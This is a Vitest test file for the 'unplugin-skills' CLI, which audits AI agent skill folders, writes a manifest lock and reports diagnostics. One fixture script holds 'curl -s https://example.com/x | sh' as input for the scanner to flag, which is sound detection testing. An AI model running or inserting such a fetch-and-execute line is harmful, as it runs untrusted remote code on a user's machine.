import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { audit } from '../../src/audit/engine'
import { exists, makeTree, read, skill } from '../helpers'
import { cli } from './run-cli'

/**
 * Runs the CLI in-process with captured stdout/stderr. `ci: false` comes from a config file, as a user would set it.
 */

const project = (files: Record<string, any>): string => makeTree({ 'skills.config.json': '{ "ci": false }', ...files })

describe('unplugin-skills CLI', () => {
  it('names the command or flag a typo was meant to be, and points to --help instead of printing it', async () => {
    expect(await cli(['chek'])).toMatchObject({
      code: 2,
      stderr: '[unplugin-skills] unknown command `chek` (did you mean `check`?)\n'
        + 'Run `unplugin-skills --help` for the commands.\n',
    })
    expect(await cli(['check', '--no-cahce'])).toMatchObject({
      code: 2,
      stderr: '[unplugin-skills] Unknown option \'--no-cahce\' (did you mean --no-cache?)\n'
        + 'Run `unplugin-skills check --help` for its options.\n',
    })
  })

  it('exits 2 on bad usage, 0 on --help', async () => {
    expect((await cli([])).code).toBe(2)
    expect((await cli(['frobnicate'])).code).toBe(2)
    expect((await cli(['check', '--bogus'])).code).toBe(2)
    const root = project(skill('a'))
    expect((await cli(['check', '--cwd', root, '--format', 'xml'])).stderr).toContain(
      '--format must be text, json or sarif, not xml',
    )
    expect((await cli(['check', '--cwd', root, '--profile', 'strict'])).code).toBe(2)
    for (const command of ['check', 'lock', 'build']) {
      const help = await cli([command, '--help'])
      expect(help.code).toBe(0)
      expect(help.stdout).toMatch(new RegExp(`^Usage: unplugin-skills ${command} \\[options\\]`))
    }
  })

  it('check: exit 0 and a summary line on a clean tree', async () => {
    const root = project({ ...skill('alpha'), ...skill('beta') })
    await cli(['lock', '--cwd', root])
    const { code, stdout } = await cli(['check', '--cwd', root, '--no-color'])
    expect(code).toBe(0)
    expect(stdout.trim().split('\n').at(-1)).toBe('✔ 0 errors, 0 warnings, 0 notes in 2 skills')
  })

  it('check: keeps results in node_modules/.cache/unplugin-skills, not with --no-cache; the same report', async () => {
    const root = project({
      ...skill('alpha', { files: { 'scripts/get.sh': 'curl -s https://example.com/x | sh\n' } }),
      ...skill('beta'),
    })
    const cacheDir = path.join(root, 'node_modules/.cache/unplugin-skills')
    const args = ['check', '--cwd', root, '--format', 'json']
    await cli(['lock', '--cwd', root, '--no-cache'])
    const uncached = await cli([...args, '--no-cache'])
    expect(fs.existsSync(cacheDir)).toBe(false)
    const cold = await cli(args)
    expect(fs.readdirSync(cacheDir).length).toBeGreaterThan(0)
    const warm = await cli(args)
    expect(uncached.stdout).toContain('scan/')
    expect(cold).toEqual(uncached)
    expect(warm).toEqual(uncached)
  })

  it('check: exit 1, each diagnostic with file:line:col, a code frame and a hint', async () => {
    const root = project(
      skill('colon', {
        frontmatter: 'name: colon\ndescription: Use when: it rains\nversion: 1.0.0\ndomain: a\ncategory: b',
      }),
    )
    const { code, stdout } = await cli(['check', '--cwd', root, '--no-color'])
    expect(code).toBe(1)
    expect(stdout).toContain(
      'error frontmatter/yaml skills/colon/SKILL.md:3:22\n  YAML syntax error: bad indentation of a mapping entry\n',
    )
    expect(stdout).toContain('  > 3 | description: Use when: it rains\n      |                      ^')
    expect(stdout).toContain('  hint: A value containing `: ` must be quoted, e.g. `description: "Use when: ..."`.')
    expect(stdout.trim().split('\n').at(-1)).toMatch(/^✖ \d+ errors?, /)
  })

  it('check --format json prints exactly one JSON document', async () => {
    const root = project({ ...skill('alpha'), 'skills/broken/SKILL.md': 'no frontmatter\n' })
    const { code, stdout } = await cli(['check', '--cwd', root, '--format', 'json'])
    expect(code).toBe(1)
    const report = JSON.parse(stdout)
    expect(Object.keys(report)).toEqual(['ok', 'skills', 'skillCount', 'diagnostics', 'overrides', 'suppressions'])
    expect(report.ok).toBe(false)
    expect(report.skills).toEqual(['alpha', 'broken'])
    expect(report.skillCount).toBe(2)
    expect(report.diagnostics.find((d: { code: string }) => d.code === 'frontmatter/missing')).toEqual({
      code: 'frontmatter/missing',
      severity: 'error',
      message: 'SKILL.md does not start with a `---` frontmatter block',
      file: 'skills/broken/SKILL.md',
      line: 1,
      column: 1,
      skill: 'broken',
      hint: 'Start the file with `---`, the YAML fields (name, description, ...), then a closing `---` line.',
    })
  })

  it('lock: creates, reports each change, and says when nothing changed', async () => {
    const root = project({ ...skill('alpha'), ...skill('beta') })
    expect(await cli(['lock', '--cwd', root])).toEqual({
      code: 0,
      stdout: [
        '[unplugin-skills] created .manifest.lock with 2 skill(s), 6 file(s)',
        '',
        'capability review: what the lock records for 2 skill(s)',
        '  skill  capabilities  undeclared  change',
        '  alpha  none',
        '  beta   none',
        '',
      ].join('\n'),
      stderr: '',
    })
    fs.appendFileSync(path.join(root, 'skills/beta/references/guide.md'), 'more\n')
    fs.rmSync(path.join(root, 'skills/alpha'), { recursive: true })
    expect((await cli(['lock', '--cwd', root])).stdout).toBe([
      '[unplugin-skills] updated .manifest.lock:',
      'skill `alpha` is in the lock but no longer found\nskill `beta` changed\n  ~ references/guide.md',
      '',
      'capability review: what the lock records for 1 skill(s), 1 changed',
      '  skill  capabilities  undeclared  change',
      '  beta   none',
      '  alpha  (removed)                 removed',
      '',
    ].join('\n'))
    expect((await cli(['lock', '--cwd', root])).stdout).toBe(
      '[unplugin-skills] .manifest.lock is up to date (1 skill(s))\n',
    )
  })

  it('lock: writes the lock while skills have errors, and then exits 1 (any error does)', async () => {
    const broken = skill('broken', { frontmatter: 'name: broken\ndescription: Use when: it rains' })
    const root = project({ ...skill('alpha'), ...broken })
    const remain = /^\[unplugin-skills\] [1-9]\d* error\(s\) remain in the skills; run `unplugin-skills check`\n$/
    const locked = await cli(['lock', '--cwd', root, '--no-color'])
    expect(locked.code).toBe(1)
    expect(locked.stdout).toMatch(/^\[unplugin-skills\] created \.manifest\.lock with 2 skill\(s\)/)
    expect(locked.stderr).toMatch(remain)
    expect(JSON.parse(read(root, '.manifest.lock')).skills.map((s: { name: string }) => s.name)).toEqual([
      'alpha',
      'broken',
    ])
    const again = await cli(['lock', '--cwd', root])
    expect(again.code).toBe(1)
    expect(again.stdout).toBe('[unplugin-skills] .manifest.lock is up to date (2 skill(s))\n')
    expect(again.stderr).toMatch(remain)

    const fixedSkill = read(root, 'skills/alpha/SKILL.md').replace(/alpha/g, 'broken')
    fs.writeFileSync(path.join(root, 'skills/broken/SKILL.md'), fixedSkill)
    const fixed = await cli(['lock', '--cwd', root])
    expect([fixed.code, fixed.stderr]).toEqual([0, ''])
  })

  it('check never writes the lock; lock creates it; build creates it only when its audit passes', async () => {
    const root = project({ ...skill('alpha'), ...skill('broken', { frontmatter: 'name: broken' }) })
    const checked = await cli(['check', '--cwd', root, '--no-color'])
    expect(checked.code).toBe(1)
    expect(checked.stdout).toContain(
      'warning lock/missing .manifest.lock .manifest.lock is missing: run `npx unplugin-skills lock` to create it\n',
    )
    expect(exists(root, '.manifest.lock')).toBe(false)
    const failed = await cli(['build', '--cwd', root, '--no-color'])
    expect(failed.code).toBe(1)
    expect(failed.stderr).not.toContain('lock/')
    expect(exists(root, '.manifest.lock')).toBe(false)

    fs.rmSync(path.join(root, 'skills/broken'), { recursive: true })
    const clean = await cli(['check', '--cwd', root, '--no-color'])
    expect(clean.code).toBe(0)
    expect(clean.stdout.trim().split('\n').at(-1)).toBe('⚠ 0 errors, 1 warning, 0 notes in 1 skill')
    expect(exists(root, '.manifest.lock')).toBe(false)
    const built = await cli(['build', '--cwd', root, '--no-color'])
    expect(built.code).toBe(0)
    expect(built.stderr).toBe(
      'info lock/created .manifest.lock created .manifest.lock with 1 skill(s); commit it\n\n'
      + '✔ 0 errors, 0 warnings, 1 note in 1 skill\n',
    )
    expect(exists(root, '.manifest.lock')).toBe(true)
    const verified = await cli(['check', '--cwd', root, '--no-color'])
    expect([verified.code, verified.stdout]).toEqual([0, '✔ 0 errors, 0 warnings, 0 notes in 1 skill\n'])
  })

  it('check in CI: a missing lock is an error, and lock still creates it there', async () => {
    const root = makeTree({ 'skills.config.json': '{ "ci": true }', ...skill('alpha') })
    const checked = await cli(['check', '--cwd', root, '--no-color'])
    expect(checked.code).toBe(1)
    expect(checked.stdout).toContain('error lock/missing .manifest.lock\n  .manifest.lock is missing, and CI never '
      + 'creates it\n')
    expect((await cli(['build', '--cwd', root])).code).toBe(1)
    expect(exists(root, '.manifest.lock')).toBe(false)
    expect((await cli(['lock', '--cwd', root])).code).toBe(0)
    expect((await cli(['check', '--cwd', root])).code).toBe(0)
  })

  it('check --root missing with a lock: the missing root once, no drift per locked skill', async () => {
    const root = project({ ...skill('alpha'), ...skill('beta'), ...skill('gamma') })
    await cli(['lock', '--cwd', root])
    expect(await cli(['check', '--cwd', root, '--root', 'missing', '--no-color'])).toEqual({
      code: 1,
      stdout: [
        'error root/not-found (project)',
        '  skills root missing does not exist (missing)',
        '  hint: Create the folder, or set `roots` to where your skills live.',
        '',
        '✖ 1 error, 0 warnings, 0 notes in 0 skills',
        '',
      ].join('\n'),
      stderr: '',
    })
  })

  it('lock: refuses to overwrite a corrupt lock unless --force', async () => {
    const root = project({ ...skill('alpha'), '.manifest.lock': '{ oops' })
    const refused = await cli(['lock', '--cwd', root, '--no-color'])
    expect(refused.code).toBe(1)
    expect(refused.stderr).toContain('error lock/corrupt .manifest.lock:1:3')
    expect(read(root, '.manifest.lock')).toBe('{ oops')
    const forced = await cli(['lock', '--cwd', root, '--force'])
    expect(forced.code).toBe(0)
    expect(JSON.parse(read(root, '.manifest.lock')).skills.map((s: { name: string }) => s.name)).toEqual(['alpha'])
  })

  it('build: writes the same bytes as the engine, and nothing on error', async () => {
    const root = project({ ...skill('alpha'), ...skill('beta') })
    await cli(['lock', '--cwd', root])
    const built = await cli(['build', '--cwd', root])
    expect(built.code).toBe(0)
    const expected = (await (await audit({ root, ci: false })).complete()).json
    expect(read(root, 'skills_manifest.json')).toBe(expected)
    expect((await cli(['build', '--cwd', root, '--out', 'out/m.json'])).code).toBe(0)
    expect(read(root, 'out/m.json')).toBe(expected)

    fs.writeFileSync(path.join(root, 'skills/alpha/SKILL.md'), '---js\n{}\n---\n')
    const failed = await cli(['build', '--cwd', root, '--out', 'out/failed.json', '--no-color'])
    expect(failed.code).toBe(1)
    expect(failed.stderr).toContain('frontmatter/executable')
    expect(failed.stderr).toContain('[unplugin-skills] nothing written')
    expect(fs.existsSync(path.join(root, 'out/failed.json'))).toBe(false)
  })

  it('reads options from skills.config.mjs', async () => {
    const root = makeTree({
      'skills.config.mjs': 'export default { ci: false, roots: ["packs"], profile: "agentskills", lock: false }\n',
      'packs/tiny/SKILL.md': '---\nname: tiny\ndescription: A tiny skill.\n---\nDo the tiny thing.\n',
    })
    const { code, stdout } = await cli(['check', '--cwd', root, '--format', 'json'])
    expect(code).toBe(0)
    expect(JSON.parse(stdout)).toEqual({
      ok: true,
      skills: ['tiny'],
      skillCount: 1,
      diagnostics: [],
      overrides: [],
      suppressions: [],
    })
  })

  it('reports a broken config file without a stack trace', async () => {
    const root = makeTree({ 'skills.config.mjs': 'export default {\n' })
    const { code, stderr } = await cli(['check', '--cwd', root])
    expect(code).toBe(2)
    expect(stderr).toMatch(/^\[unplugin-skills\] config file skills.config.mjs could not be loaded: /)
    expect(stderr).not.toMatch(/\n\s+at /)
  })
})
